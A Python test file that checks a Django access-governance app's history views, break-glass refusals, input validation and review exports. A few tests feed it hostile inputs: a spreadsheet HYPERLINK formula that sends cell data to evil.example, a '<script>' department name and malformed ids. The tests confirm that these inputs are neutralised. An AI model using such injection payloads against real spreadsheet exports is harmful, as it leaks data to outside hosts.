"""Access governance over HTTP after the second review: the client page's access
history, the break-glass form, ids and dates typed into forms and API bodies, the
transfer endpoint's department, and the review export. No hostile input answers 500."""

from __future__ import annotations

import io
import json
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from baomi.access import services
from baomi.access.models import QueryRequest, ReviewCampaign, ReviewDecision, ReviewItem
from baomi.accounts.models import Department, Level, Role
from baomi.audit.events import record
from baomi.audit.models import LedgerEntry
from baomi.clients.models import Assignment
from baomi.vault import services as vault_services
from baomi.vault.tests.conftest import sealed_upload
from conftest import verified_client

pytestmark = pytest.mark.django_db

BAD_IDS = ["²", "1" * 5000, str(2**63), "١"]


def last(action: str) -> LedgerEntry:
    entry = LedgerEntry.objects.filter(action=action).order_by("-seq").first()
    assert entry is not None, action
    return entry


@pytest.fixture
def firm(make_user: Any, make_client: Any) -> dict[str, Any]:
    admin = make_user("admin", role=Role.ADMIN, clearance=Level.SECRET)
    manager = make_user("manager", role=Role.MANAGER, department="一部", clearance=Level.SECRET)
    acct = make_user("acct", department="一部", clearance=Level.SECRET)
    compliance = make_user("compliance", role=Role.COMPLIANCE, clearance=Level.SECRET)
    client = make_client(manager, name="绝密客户有限公司")
    services.assignment_add(actor=manager, client=client, user=acct)
    up = sealed_upload(actor=acct, client=client, data=b"plan")
    doc = vault_services.document_upload(actor=acct, client=client, upload=up,
                                         title="并购计划-机密", level="confidential",
                                         category="trade_secret")
    return {"admin": admin, "manager": manager, "acct": acct, "compliance": compliance,
            "client": client, "doc": doc}


# --- The client page's access history -------------------------------------------------------


def test_the_client_page_shows_the_access_history_only_to_those_the_matrix_allows(firm):
    client = firm["client"]
    record(firm["manager"], "client.sensitive.read", object_type="client", object_id=client.pk,
           client_id=client.pk, purpose="税务稽查-保密目的")
    acct = verified_client(firm["acct"])
    assert acct.get(f"/api/v1/clients/{client.pk}/access-history").status_code == 403
    page = acct.get(f"/clients/{client.pk}/")
    assert page.status_code == 200
    assert page.context["history"] is None and page.context["can_view_history"] is False
    assert "税务稽查-保密目的" not in page.content.decode()
    assert 'id="access-history"' not in page.content.decode()  # no section at all
    for viewer in (firm["manager"], firm["compliance"]):
        c = verified_client(viewer)
        assert c.get(f"/api/v1/clients/{client.pk}/access-history").status_code == 200
        page = c.get(f"/clients/{client.pk}/")
        assert page.context["can_view_history"] is True
        assert "税务稽查-保密目的" in page.content.decode()
        assert 'id="access-history"' in page.content.decode()


def test_a_partner_does_not_see_the_access_history(firm, make_user):
    from baomi.access.models import ClientAuthorization, PartnerOrganisation

    client = firm["client"]
    record(firm["admin"], "client.sensitive.read", object_type="client", object_id=client.pk,
           client_id=client.pk, purpose="内部调查XYZ")
    org = PartnerOrganisation.objects.create(name="伙伴")
    partner = make_user("p1", role=Role.PARTNER, clearance=Level.INTERNAL)
    partner.partner_org = org
    partner.save()
    now = timezone.now()
    ClientAuthorization.objects.create(
        client=client, grantee_org=org, scope_levels=["internal"], via="portal",
        valid_from=now - timedelta(days=1), valid_to=now + timedelta(days=30))
    page = verified_client(partner).get(f"/clients/{client.pk}/")
    assert page.status_code == 200
    assert "内部调查XYZ" not in page.content.decode()


# --- The break-glass form ---------------------------------------------------------------------


def test_the_break_glass_form_names_nothing_to_a_manager_the_gates_refuse(firm, make_user):
    doc = firm["doc"]
    unsigned = make_user("mgr2", role=Role.MANAGER, department="二部", clearance=Level.SECRET,
                         compliant=False)
    c = verified_client(unsigned)
    for method in (c.get, c.post):
        page = method(f"/access/documents/{doc.pk}/break-glass/",
                      *([{"reason": "紧急", "purpose": "审计"}] if method == c.post else []))
        assert page.status_code == 404
        html = page.content.decode()
        assert "并购计划-机密" not in html and "绝密客户有限公司" not in html
    form = last("break_glass.form")
    assert (form.decision, form.reason) == ("refused", "agreement_missing")
    read = last("break_glass.read")
    assert (read.decision, read.reason) == ("refused", "agreement_missing")
    # The same answer as for a document that does not exist.
    assert c.get("/access/documents/999999/break-glass/").status_code == 404


def test_the_break_glass_form_refuses_a_manager_without_clearance(firm, make_user):
    low = make_user("mgr3", role=Role.MANAGER, department="二部", clearance=Level.INTERNAL)
    page = verified_client(low).get(f"/access/documents/{firm['doc'].pk}/break-glass/")
    assert page.status_code == 404 and "并购计划-机密" not in page.content.decode()
    assert last("break_glass.form").reason == "clearance_insufficient"


def test_the_break_glass_form_is_shown_to_a_manager_who_may_break_glass(firm, make_user):
    able = make_user("mgr4", role=Role.MANAGER, department="二部", clearance=Level.SECRET)
    page = verified_client(able).get(f"/access/documents/{firm['doc'].pk}/break-glass/")
    assert page.status_code == 200 and "并购计划-机密" in page.content.decode()
    assert last("break_glass.form").decision == "allowed"


def test_the_break_glass_api_answers_a_manager_the_gates_refuse_as_for_a_missing_id(
    firm, make_user
):
    doc = firm["doc"]
    low = make_user("mgr5", role=Role.MANAGER, department="二部", clearance=Level.INTERNAL)
    c = verified_client(low)
    query = {"reason": "系统故障紧急核对", "purpose": "审计"}
    refused = c.post(f"/api/v1/documents/{doc.pk}/break-glass", query,
                     content_type="application/json")
    missing = c.post("/api/v1/documents/999999/break-glass", query,
                     content_type="application/json")
    assert refused.status_code == missing.status_code == 404
    assert refused.json()["code"] == missing.json()["code"] == "document_not_found"
    assert "secret" not in refused.content.decode() and "绝密" not in refused.content.decode()
    read = last("break_glass.read")
    assert (read.decision, read.reason) == ("refused", "clearance_insufficient")
    able = make_user("mgr6", role=Role.MANAGER, department="二部", clearance=Level.SECRET)
    assert verified_client(able).post(
        f"/api/v1/documents/{doc.pk}/break-glass", query, content_type="application/json"
    ).status_code != 404


# --- Ids typed into forms ----------------------------------------------------------------------


@pytest.mark.parametrize("raw", BAD_IDS)
def test_bad_ids_in_access_forms_never_answer_500(firm, raw):
    c = verified_client(firm["admin"], raise_request_exception=False)
    client = firm["client"]
    r = c.post(f"/access/clients/{client.pk}/assignments/", {"user": raw})
    assert r.status_code == 302
    now = timezone.localtime()
    r = verified_client(firm["acct"], raise_request_exception=False).post(
        f"/access/clients/{client.pk}/request/", {
            "purpose": "记账", "levels": ["internal"], "document_ids": [raw],
            "valid_from": now.strftime("%Y-%m-%dT%H:%M"),
            "valid_to": (now + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")})
    # Refused (recorded), not filed with the unreadable id left out: the request would not
    # be the one asked for.
    assert r.status_code == 400
    assert not QueryRequest.objects.exists()
    assert last("query_request.create").reason == "scope_unreadable"
    r = verified_client(firm["manager"], raise_request_exception=False).post(
        f"/access/clients/{client.pk}/authorizations/",
        {"grantee_user": raw, "grantee_org": raw, "form_document": raw, "levels": ["internal"]})
    assert r.status_code == 302
    r = c.post(f"/access/staff/{firm['acct'].pk}/", {"what": "transfer", "department": raw})
    assert r.status_code == 302
    r = c.post(f"/access/staff/{firm['acct'].pk}/", {"what": "handover", "to_user": raw})
    assert r.status_code == 302
    assert c.post("/access/purposes/", {"what": "retire", "purpose": raw}).status_code == 404
    comp = verified_client(firm["compliance"], raise_request_exception=False)
    assert comp.post("/access/break-glass/", {"item": raw}).status_code == 404
    campaign = services.review_campaign_create(actor=firm["compliance"], name="Q",
                                               deadline=timezone.now() + timedelta(days=1))
    r = verified_client(firm["manager"], raise_request_exception=False).post(
        f"/access/reviews/{campaign.pk}/", {"item": raw, "decision": "confirm"})
    assert r.status_code == 404


@pytest.mark.parametrize("raw", [*BAD_IDS, "abc"])
def test_bad_ids_in_client_and_vault_pages_are_not_found(firm, raw):
    c = verified_client(firm["acct"], raise_request_exception=False)
    r = c.get(f"/vault/documents/{firm['doc'].pk}/download/", {"purpose": "记账", "version": raw})
    assert r.status_code == 404
    m = verified_client(firm["manager"], raise_request_exception=False)
    assert m.get(f"/clients/{firm['client'].pk}/contacts/", {"contact": raw}).status_code == 404


def test_a_version_number_still_downloads_that_version(firm):
    c = verified_client(firm["acct"])
    r = c.get(f"/vault/documents/{firm['doc'].pk}/download/", {"purpose": "记账", "version": "1"})
    assert r.status_code == 200
    assert c.get(f"/vault/documents/{firm['doc'].pk}/download/",
                 {"purpose": "记账", "version": "2"}).status_code == 404


# --- Dates outside the span ---------------------------------------------------------------------


def test_a_web_request_for_year_1_is_refused_not_500(firm):
    c = verified_client(firm["acct"], raise_request_exception=False)
    r = c.post(f"/access/clients/{firm['client'].pk}/request/", {
        "purpose": "记账", "levels": ["internal"],
        "valid_from": "0001-01-01T00:00", "valid_to": "0001-01-02T00:00"})
    assert r.status_code == 400
    assert last("query_request.create").reason == "period_out_of_range"


def _post(c: Any, path: str, body: dict[str, Any]) -> Any:
    return c.post(path, json.dumps(body), content_type="application/json")


def test_api_dates_that_cannot_be_stored_are_refused_with_422(firm, make_user):
    client = firm["client"]
    acct = verified_client(firm["acct"], raise_request_exception=False)
    r = _post(acct, f"/api/v1/clients/{client.pk}/query-requests", {
        "scope": {"levels": ["internal"]}, "purpose": "记账",
        "valid_from": "0001-01-01T00:00:00+14:00", "valid_to": "0001-01-02T00:00:00+14:00"})
    assert (r.status_code, r.json()["code"]) == (422, "period_out_of_range")
    partner = make_user("p3", role=Role.PARTNER)
    mgr = verified_client(firm["manager"], raise_request_exception=False)
    terms = {"grantee_user_id": partner.pk, "scope": {"levels": ["internal"]},
             "valid_from": "2025-01-01T00:00:00+08:00", "valid_to": "9999-12-31T23:59:59-14:00"}
    for path in ("authorization-form", "authorizations"):
        r = _post(mgr, f"/api/v1/clients/{client.pk}/{path}", terms)
        assert (r.status_code, r.json()["code"]) == (422, "period_out_of_range"), path
    adm = verified_client(firm["admin"], raise_request_exception=False)
    person = make_user("p4", compliant=False)
    r = _post(adm, f"/api/v1/staff/{person.pk}/agreements", {
        "kind": "employee", "valid_from": "2025-01-01T00:00:00+08:00",
        "valid_to": "9999-12-31T23:00:00-12:00"})
    assert (r.status_code, r.json()["code"]) == (422, "period_out_of_range")
    comp = verified_client(firm["compliance"], raise_request_exception=False)
    r = _post(comp, "/api/v1/access-reviews",
              {"name": "Q", "deadline": "9999-12-31T23:59:59-14:00"})
    assert (r.status_code, r.json()["code"]) == (422, "period_out_of_range")
    assert not ReviewCampaign.objects.exists()


def test_api_ids_beyond_64_bits_are_invalid_input(firm):
    acct = verified_client(firm["acct"], raise_request_exception=False)
    now = timezone.now()
    r = _post(acct, f"/api/v1/clients/{firm['client'].pk}/query-requests", {
        "scope": {"document_ids": [10**30]}, "purpose": "记账",
        "valid_from": now.isoformat(), "valid_to": (now + timedelta(days=1)).isoformat()})
    assert r.status_code == 422
    adm = verified_client(firm["admin"], raise_request_exception=False)
    r = _post(adm, f"/api/v1/clients/{firm['client'].pk}/assignments", {"user_id": 2**63})
    assert r.status_code == 422
    r = _post(adm, f"/api/v1/staff/{firm['acct'].pk}/handover", {"to_user_id": 0})
    assert r.status_code == 422
    schema = json.dumps(verified_client(firm["admin"]).get("/api/v1/openapi.json").json())
    assert str(2**63 - 1) in schema


# --- Transfer: no department before the permission check ------------------------------------------


def test_a_refused_transfer_creates_no_department(firm):
    before = Department.objects.count()
    r = _post(verified_client(firm["acct"]), f"/api/v1/staff/{firm['manager'].pk}/transfer",
              {"department": "黑客部门<script>"})
    assert r.status_code == 403
    assert Department.objects.count() == before
    entry = last("staff.transfer")
    assert entry.decision == "refused"


def test_an_allowed_transfer_still_creates_the_department(firm):
    r = _post(verified_client(firm["admin"]), f"/api/v1/staff/{firm['acct'].pk}/transfer",
              {"department": "三部"})
    assert r.status_code == 200, r.content
    firm["acct"].refresh_from_db()
    assert firm["acct"].department.name == "三部"
    r = _post(verified_client(firm["admin"]), f"/api/v1/staff/{firm['admin'].pk}/transfer",
              {"department": "四部"})
    assert (r.status_code, r.json()["code"]) == (403, "self_action")
    assert not Department.objects.filter(name="四部").exists()


# --- Reviews and exports over HTTP -------------------------------------------------------------


def test_the_api_refuses_a_second_decision_on_a_review_item(firm):
    campaign = services.review_campaign_create(actor=firm["compliance"], name="Q",
                                               deadline=timezone.now() + timedelta(days=1))
    item = ReviewItem.objects.get(campaign=campaign, holder=str(firm["acct"]))
    c = verified_client(firm["manager"])
    r = _post(c, f"/api/v1/access-review-items/{item.pk}", {"confirm": False})
    assert r.status_code == 200
    r = _post(c, f"/api/v1/access-review-items/{item.pk}", {"confirm": True})
    assert (r.status_code, r.json()["code"]) == (409, "review_not_pending")
    assert ReviewItem.objects.get(pk=item.pk).decision == ReviewDecision.REVOKED
    assert not Assignment.objects.filter(pk=item.grant_id).exists()


def test_the_xlsx_export_of_a_hostile_purpose_is_text(firm):
    import openpyxl

    now = timezone.now()
    acct = verified_client(firm["acct"])
    r = _post(acct, f"/api/v1/clients/{firm['client'].pk}/query-requests", {
        "scope": {"levels": ["internal"]},
        "purpose": '=HYPERLINK("http://evil.example/?x="&A1,"点此")\x01',
        "valid_from": now.isoformat(), "valid_to": (now + timedelta(days=3)).isoformat()})
    assert r.status_code == 201, r.content
    approve = f"/api/v1/query-requests/{r.json()['id']}/approve"
    assert _post(verified_client(firm["manager"]), approve, {}).status_code == 200
    comp = verified_client(firm["compliance"], raise_request_exception=False)
    r = _post(comp, "/api/v1/access-reviews",
              {"name": "Q4", "deadline": (now + timedelta(days=7)).isoformat()})
    cid = r.json()["id"]
    r = comp.get(f"/api/v1/access-reviews/{cid}/export", {"format": "xlsx"})
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert '=HYPERLINK("http://evil.example/?x="&A1,"点此")' in {c.value for c in cells}
    assert comp.get(f"/api/v1/access-reviews/{cid}/export", {"format": "pdf"}).status_code == 200
